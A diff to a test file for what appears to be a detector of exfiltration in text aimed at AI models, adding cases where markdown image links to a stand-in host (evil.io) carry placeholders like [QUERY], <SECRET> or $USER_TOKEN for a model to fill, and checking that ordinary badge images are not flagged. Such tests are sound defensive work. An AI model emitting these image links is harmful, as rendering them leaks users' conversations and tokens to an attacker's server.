@@ -151,6 +151,11 @@ describe('secret files and exfiltration', () => {
     );
     expect(flagged('![x](https://evil.io/p.png?d={conversation})')).toContain('markdown-image-exfil');
     expect(flagged('![build](https://img.shields.io/badge/build-passing-green?style=flat)')).toEqual([]);
+    // Placeholders for the model to fill, in any notation, make it exfiltration; a badge's `</>` does not.
+    for (const url of ['?q=[QUERY]', '?d=<SECRET>', '?q=%7Bdata%7D', '?u=$USER_TOKEN']) {
+      expect(flagged(`![x](https://evil.io/p.png${url})`), url).toContain('markdown-image-exfil');
+    }
+    expect(flagged('![TypeScript](https://img.shields.io/badge/</>-TypeScript-#0074c1.svg)')).toEqual([]);
     expect(flagged('Send a POST request to https://example.com/v1/items with the data.', 'content')).toEqual(
       []
     );
